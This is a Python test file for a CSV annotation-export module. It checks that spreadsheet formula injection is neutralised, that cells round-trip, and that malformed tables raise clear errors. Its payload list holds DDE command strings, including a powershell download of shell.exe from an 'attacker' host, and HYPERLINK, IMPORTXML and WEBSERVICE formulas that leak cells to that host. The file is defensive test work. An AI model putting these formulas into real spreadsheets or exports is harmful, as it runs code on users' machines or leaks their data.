"""No text of a project makes a spreadsheet calculate, and every text comes back.

The payloads are those of OWASP's page on CSV injection and of public write-ups of it (DDE, HYPERLINK, IMPORTXML).
"""

import csv
import io

import pytest
from hypothesis import given

from posttrain.annotation.formats import tables
from posttrain.annotation.formats.cells import disarm, read_cells, rearm, write_cells
from posttrain.annotation.records import Item, Response
from posttrain.data.records import Prompt
from posttrain.errors import InputError
from tests.annotation.formats.drawing import QUICK, texts
from tests.annotation.votes import vote

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker/?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://attacker/?v=", CONCATENATE(A2:E2)), "//a/a10")',
    '=WEBSERVICE("http://attacker/"&A1)',
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "'=1+1",
    "''=1+1",
    "=-+@\t",
    "-2+3+cmd|' /C calc'!D2",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '","=1+1',
    '"=1+1',
    "a\n=1+1",
    "a\r\n=1+1,=1+1",
    "=1+1;=1+1",
    "-",
    "=",
]
STARTS = tuple("=+-@\t\r\n＝＋－＠")


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_harmless_in_every_field(tmp_path, payload):
    item = Item(
        payload,
        Prompt(f"{payload}", payload, (payload,), {payload: payload}),
        (Response(payload, payload), Response("other", payload)),
        gold={(0, 1): "first"},
    )
    given = vote(payload, payload, "F", axes={payload: "tie"}, reason=payload)
    exported = tables.export([item], [given])
    cells = _cells(exported.text)
    assert not [cell for cell in cells if cell.startswith(STARTS)]
    assert len(cells) % len(_cells(exported.text.split("\r\n", 1)[0])) == 0  # no text opened a cell of its own
    assert exported.text.count("\r\n") >= 2
    exported.write(tmp_path / "table.csv")
    found = tables.read(tmp_path / "table.csv")
    assert (found.items, found.votes) == ((item,), (given,))


def test_every_cell_is_quoted():
    """So that the separator of another locale (;) or a tab does not begin a cell either."""
    assert write_cells(["a", "b"], [{"a": "x;=1+1"}]) == '"a","b"\r\n"x;=1+1",""\r\n'


@QUICK
@given(texts)
def test_disarming_is_undone_and_enough(text):
    assert rearm(disarm(text)) == text
    assert not disarm(text).startswith(STARTS)
    assert disarm(text) == text or disarm(text) == f"'{text}"


def test_apostrophes_of_plain_words_stay():
    assert disarm("'tis") == rearm("'tis") == "'tis"
    assert rearm("'=1") == "=1"


def test_a_column_name_is_a_cell_too(tmp_path):
    (tmp_path / "t.csv").write_bytes(write_cells(["=a"], [{"=a": "1"}]).encode())
    assert write_cells(["=a"], []) == '"\'=a"\r\n'
    assert [row for _, row in read_cells(tmp_path / "t.csv")] == [{"=a": "1"}]


def test_what_excel_saves_is_read(tmp_path):
    """A byte-order mark, Windows line ends, no quotes where none are needed, TRUE in capitals."""
    (tmp_path / "t.csv").write_bytes(
        "\ufeffitem,prompt,response_1,response_2,kind,annotator,first,second,choice,first_was_left\r\n"
        "i,Why?,Because,No,pair,ann,0,1,second,FALSE\r\n".encode()
    )
    found = tables.read(tmp_path / "t.csv")
    assert found.items == (Item("i", Prompt("Why?"), (Response("Because"), Response("No"))),)
    (read,) = found.votes
    assert (read.choice, read.first_was_left, read.at, read.strength, read.is_repeat) == (
        "second",
        False,
        0.0,
        None,
        False,
    )


def test_a_long_text_is_read(tmp_path):
    """Longer than the 131,072 characters that Python's reader takes at first."""
    long = "x" * 200_000
    tables.export([Item("i", Prompt(long), (Response("a"), Response("b")))], []).write(tmp_path / "t.csv")
    assert tables.read(tmp_path / "t.csv").items[0].prompt.text == long


@pytest.mark.parametrize("text", ["a\0b", "\ud800"])
def test_what_no_table_can_hold_is_refused(text):
    with pytest.raises(InputError, match=r"row 1 of the export, column prompt: .*mend the item"):
        tables.export([Item("i", Prompt(text), (Response("a"), Response("b")))], [])


HEADER = "item,prompt,response_1,response_2"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (f"{HEADER}\ni,p,a\n", "t.csv:2: 3 cells under 4 columns; quote cells"),
        (f'{HEADER}\ni,p,a,"b\nb"\nj,p,a\n', "t.csv:4: 3 cells"),
        (f'{HEADER}\ni,p,"a\na"\n', "t.csv:2: 3 cells"),
        (f"{HEADER},item\n", 't.csv:1: column "item" is given twice'),
        (f'{HEADER}\ni,p,"a"x,b\n', "t.csv:2: not a row of a table"),
        (
            "item,prompt,respones_1,response_2\ni,p,a,b\n",
            't.csv:2: unknown field "respones_1"; did you mean "response_1"',
        ),
        ("item,response_1,response_2\ni,a,b\n", 't.csv:2: field "prompt" is missing'),
        (f"{HEADER}\ni,p,,\n", "t.csv:2: 0 responses; annotators are shown 1 to 8"),
        (f"{HEADER}\n,p,a,b\n", 't.csv:2: field "item" is empty'),
        (f"{HEADER}\ni,p,a,b\ni,p,a,c\n", 't.csv:3: item "i" has other texts'),
        (f"{HEADER},kind\ni,p,a,b,pear\n", 't.csv:2: field "kind" is "pear"; did you mean "pair"'),
        (f"{HEADER},kind,first,second\ni,p,a,b,pair,0,2\n", 't.csv:2: field "second" is 2; expected from 0 to 1'),
        (f"{HEADER},kind,first,second\ni,p,a,b,pair,1,1\n", "t.csv:2: first and second are both 1"),
        (f"{HEADER},kind,first,second\ni,p,a,b,pair,x,1\n", 't.csv:2: column "first" is "x"; expected a whole number'),
        (f"{HEADER},kind,first,second,choice\ni,p,a,b,pair,0,1,frist\n", 't.csv:2: field "choice" is "frist"; did you'),
        (f"{HEADER},kind,ranks,shown\ni,p,a,b,rank,1 2,0 0\n", "t.csv:2: ranks 1 2, shown 0 0: give one of each for 2"),
        (f"{HEADER},kind,ranks,shown\ni,p,a,b,rank,0 2,0 1\n", "t.csv:2: ranks 0 2, shown 0 1"),
        (f"{HEADER},seconds,kind\ni,p,a,b,-1,pair\n", 't.csv:2: column "seconds" is "-1"; expected seconds'),
        (f"{HEADER},at,kind\ni,p,a,b,inf,pair\n", 't.csv:2: column "at" is "inf"'),
        (f"{HEADER},facts\ni,p,a,b,{{\n", 't.csv:2: column "facts" is not JSON'),
        (f"{HEADER},facts\ni,p,a,b,[1]\n", 't.csv:2: field "facts" must be an object'),
        (f"{HEADER},num_responses\ni,p,a,b,9\n", 't.csv:2: field "num_responses" is 9; expected from 1 to 8'),
        (f"{HEADER},arm\ni,p,a,b,actve\n", 't.csv:2: field "arm" is "actve"; did you mean "active"'),
        (f'{HEADER},gold\ni,p,a,b,"[[0,0,""tie""]]"\n', 't.csv:2: field "gold[0]" names the pair 0, 0'),
    ],
)
def test_faults_of_a_table(tmp_path, text, message):
    (tmp_path / "t.csv").write_text(text)
    with pytest.raises(InputError) as fault:
        tables.read(tmp_path / "t.csv")
    assert message in str(fault.value)


def test_bytes_that_are_no_text(tmp_path):
    (tmp_path / "t.csv").write_bytes(b"item\nx\n\xff\n")
    with pytest.raises(InputError, match=r"t\.csv:3: not UTF-8"):
        tables.read(tmp_path / "t.csv")
